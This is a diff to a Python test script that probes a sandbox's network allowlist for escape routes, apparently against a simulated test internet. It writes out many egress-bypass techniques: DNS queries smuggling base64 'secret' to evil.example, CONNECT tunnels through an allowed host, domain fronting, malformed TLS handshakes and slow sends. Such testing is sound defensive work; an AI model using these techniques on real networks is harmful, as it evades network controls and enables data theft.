@@ -1,5 +1,5 @@
 """Ways around a list of allowed names, tried from inside a sandbox.  Run there, with the names of groups as arguments;
-prints a line of JSON for each try: [group, name, what came of it, when it began, when it was over].
+prints a line of JSON for each try: [group, name, what came of it, how many seconds that took].
 
 What comes of one is "reached" if somebody out there answered, else how it was refused.  Nothing but what python3 comes
 with; the addresses are those of the tests' own internet."""
@@ -14,6 +14,7 @@ import ssl
 import struct
 import subprocess
 import sys
+import threading
 import time
 
 OK, EVIL, EVIL6 = "93.184.216.10", "93.184.216.66", "2606:2800:220:1::66"
@@ -154,8 +155,9 @@ NAMES = [
 
 def add_name(name):
     shown = name.decode("utf-8").encode("unicode_escape").decode()[:60]
-    labels = [part for part in name.split(b".") if len(part) < 64]
-    add("names", f"lookup of {shown}", lambda: ask(question(labels)))
+    labels = name.rstrip(b".").split(b".")
+    if b"" not in labels and max(map(len, labels)) < 64 and len(name) < 254:  # that can be asked for
+        add("names", f"lookup of {shown}", lambda: ask(question(labels)))
     if b"\0" in name or b"@" in name:
         add("names", f"lookup of {shown}, as one label", lambda: ask(question([name, b"ok", b"example"] if b"\0" in name else [name])))
     add("names", f"Host {shown}", lambda: dial(EVIL, 80, get(name)))
@@ -225,7 +227,6 @@ for shown_, make_ in {
     "an alert first": lambda: b"\x15\x03\x01\0\x02\x01\0" + hello(b"evil.example"),
     "as SSL 2": lambda: b"\x80\x2e\x01\x03\x01" + b"\0" * 60,
     "ECH with evil outside": lambda: extended(hello(b"evil.example"), struct.pack(">HH", 0xFE0D, 10) + b"\0" * 10),
-    "half a hello, then HTTP": lambda: hello(b"evil.example")[:60] + get("ok.example"),
     "HTTP to the TLS port": lambda: get("evil.example"),
     "an HTTP/2 preface": lambda: b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0",
     "a ClientHello that says to be longer": lambda: hello(b"evil.example")[:6] + b"\xff\xff\xff" + hello(b"evil.example")[9:],
@@ -285,8 +286,8 @@ add("http", "Host, by fast open", lambda: fast_open(get(E)))
 
 def fast_open(data):
     with socket.socket() as s:
-        s.settimeout(PATIENCE)
         s.sendto(data, socket.MSG_FASTOPEN, (EVIL, 80))
+        s.settimeout(PATIENCE)
         return first_word(s.recv(4096))
 
 
@@ -318,14 +319,24 @@ for port_ in (853, 5353, 5355, 443, 784, 8853, 54):
     add("dns", f"to port {port_}", lambda p=port_: ask(question("ok.example"), "9.9.9.9", p))
 ODD = {
     "two questions": question("ok.example", counts=(2, 0, 0, 0), rest=question("c2VjcmV0.evil.example")[12:]), "an answer in it": question("ok.example", counts=(1, 1, 0, 0), rest=b"\xc0\x0c" + b"\0" * 10),
-    "class CH": question("version.bind", 16, 3), "class ANY": question("c2VjcmV0.ok.example", 1, 255), "an answer": question("ok.example", flags=0x8180), "an update": question("ok.example", flags=0x2800),
+    "class CH": question("version.bind", 16, 3), "class ANY": question("c2VjcmV0.ok.example", 1, 255), "an update": question("ok.example", flags=0x2800),
     "a dot in a label": question([b"c2VjcmV0.evil", b"example"]), "a dot in an allowed one": question([b"x.ok", b"example"]), "a NUL in a label": question([b"c2Vj\0cmV0", b"ok", b"example"]),
-    "bytes in a label": question([bytes(range(128, 160)), b"ok", b"example"]), "a pointer": struct.pack(">6H", 77, 0x100, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1", "too short": b"\0\1\2", "nothing": struct.pack(">6H", 77, 0x100, 0, 0, 0, 0),
+    "bytes in a label": question([bytes(range(128, 160)), b"ok", b"example"]), "a pointer": struct.pack(">6H", 77, 0x100, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1", "nothing": struct.pack(">6H", 77, 0x100, 0, 0, 0, 0),
     "of the root": question([]),
 }  # fmt: skip
 for shown_, packet_ in ODD.items():
     add("dns", shown_, lambda p=packet_: ask(p))
     add("dns", shown_ + ", by TCP", lambda p=packet_: ask_by_tcp(p))
+# These are answered: for one name, of which there is one form.
+OPTION = b"\0\0\x29\x04\xd0\0\0\0\0\0\x0c\xfd\xe9\0\x08c2VjcmV0"
+for shown_, packet_ in {"capitals": question("oK.ExAmPlE"), "an option": question("ok.example", counts=(1, 0, 0, 1), rest=OPTION), "flags": question("ok.example", flags=0x0130),
+                        "bytes behind it": question("ok.example", rest=b"c2VjcmV0"), "AAAA": question("Ok.example", 28)}.items():  # fmt: skip
+    add("carried", shown_, lambda p=packet_: ask(p))
+    add("carried", shown_ + ", by TCP", lambda p=packet_: ask_by_tcp(p))
+# Nobody answers those.
+add("ignored", "an answer", lambda: ask(question("c2VjcmV0.evil.example", flags=0x8180)))
+add("ignored", "too short", lambda: ask(b"\0\1\2"))
+add("ignored", "too long", lambda: ask(question("c2VjcmV0.evil.example", rest=b"x" * 5000)))
 
 
 # ---- packets, and the host itself ----
@@ -452,7 +463,7 @@ add("host", "and then evil, by UDP", lambda: datagram(EVIL, 7000))
 
 # ---- names that are allowed, and lead where they may not ----
 
-for name_ in ("private", "lan", "mixed", "loop", "meta", "meta6", "nat64", "sixto4", "mapped", "compatible", "zero", "ula", "linklocal", "cgnat", "multicast", "late"):
+for name_ in ("private", "lan", "mixed", "loop", "meta", "meta6", "nat64", "sixto4", "mapped", "compatible", "zero", "ula", "linklocal", "cgnat", "multicast"):
     host_ = name_ + ".example"
     add("private names", f"Host {host_}", lambda h=host_: dial(OK, 80, get(h)))
     add("private names", f"server name {host_}", lambda h=host_: dial(OK, 443, hello(h.encode())))
@@ -463,7 +474,7 @@ for name_ in ("private", "lan", "mixed", "loop", "meta", "meta6", "nat64", "sixt
 # ---- what is allowed, with something behind it or beside it: the first goes to ok.example, the rest nowhere ----
 
 
-def conversation(address, port, *parts, pause=0.05):
+def conversation(address, port, *parts, pause=0.02):
     """The status of the first answer; all of the rest is read, too."""
     with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET) as s:
         s.settimeout(PATIENCE)
@@ -524,20 +535,66 @@ add("fronting", "a dot behind", lambda: dial(EVIL, 80, get("ok.example.", "/firs
 add("fronting", "records of 1 byte", lambda: dial(EVIL, 443, records(hello(b"ok.example"), [1])))
 add("fronting", "ECH", lambda: dial(EVIL, 443, extended(hello(b"ok.example"), struct.pack(">HH", 0xFE0D, 10) + b"\0" * 10)))
 # And these do not.
-add("tls", "a tunnel to an allowed one, evil inside", lambda: secure(None, E, E, proxy="ok.example:443"))
+add("tunnelled", "a tunnel to an allowed one, evil inside", lambda: secure(None, E, E, proxy="ok.example:443"))
+add("tunnelled", "a tunnel to an allowed one, evil as Host inside", lambda: tunnel("ok.example:80", get(E)))
+add("tunnelled", "a tunnel to an allowed one, CONNECT inside", lambda: tunnel("ok.example:80", b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n"))
+add("tunnelled", "a tunnel to an allowed one, no name inside", lambda: tunnel("ok.example:443", hello(None)))
+add("tunnelled", "a tunnel to an allowed one, SSH inside", lambda: tunnel("ok.example:443", b"SSH-2.0-x\r\n"))
 add("tls", "a tunnel to evil, an allowed one inside", lambda: secure(None, K, K, proxy="evil.example:443"))
 
 
+def tunnel(to, data):
+    with socket.create_connection(PROXY, PATIENCE) as s:
+        s.sendall(f"CONNECT {to} HTTP/1.1\r\n\r\n".encode())
+        if first_word(s.recv(4096)) != "reached":
+            return "no tunnel"
+        s.sendall(data)
+        return first_word(s.recv(4096))
+
+
+# ---- slowly: they are over after ten seconds, whatever they say ----
+
+
+def slowly(address, port, parts, pause):
+    with socket.create_connection((address, port), PATIENCE) as s:
+        s.settimeout(pause)
+        for part in parts:
+            s.sendall(part)
+            with contextlib.suppress(TimeoutError):
+                return first_word(s.recv(100))
+        s.settimeout(13)
+        return first_word(s.recv(100))
+
+
+add("slow", "a ClientHello", lambda: slowly(EVIL, 443, [bytes([b]) for b in hello(b"ok.example")], 0.2))
+add("slow", "half a ClientHello", lambda: slowly(EVIL, 443, [hello(b"ok.example")[:100]], 0.2))
+add("slow", "half a ClientHello, then HTTP", lambda: slowly(EVIL, 443, [hello(b"ok.example")[:100], get(K)], 0.2))
+add("slow", "a head", lambda: slowly(EVIL, 80, [bytes([b]) for b in get(K, more="X-Long: " + "x" * 100 + "\r\n")], 0.2))
+add("slow", "half a head", lambda: slowly(EVIL, 80, [get(K)[:-2]], 0.2))
+add("slow", "nothing", lambda: slowly(EVIL, 443, [], 0.2))
+add("slow", "nothing, to the proxy", lambda: slowly(*PROXY, [], 0.2))
+
+
+def one(group, name, function):
+    begun = time.monotonic()
+    try:
+        outcome = function()
+    except OSError as e:
+        outcome = errno.errorcode.get(e.errno, type(e).__name__)
+    print(json.dumps([group, name, outcome, time.monotonic() - begun]) + "\n", end="", flush=True)
+
+
 def main():
-    wanted = sys.argv[1:] or list(groups)
-    for group in wanted:
-        for name, function in groups[group]:
-            begun = time.time()
-            try:
-                outcome = function()
-            except (OSError, UnicodeError) as e:
-                outcome = errno.errorcode.get(e.errno, type(e).__name__) if isinstance(e, OSError) else type(e).__name__
-            print(json.dumps([group, name, outcome, begun, time.time()]), flush=True)
+    """Arguments: groups, or GROUP: NAME of one of it."""
+    wanted = [(g, n, f) for g, all_ in groups.items() for n, f in all_ if g in sys.argv[1:] or f"{g}: {n}" in sys.argv[1:]]
+    slow = [threading.Thread(target=one, args=each) for each in wanted if each[0] == "slow"]
+    for thread in slow:
+        thread.start()
+    for each in wanted:
+        if each[0] != "slow":
+            one(*each)
+    for thread in slow:
+        thread.join()
 
 
 if __name__ == "__main__":
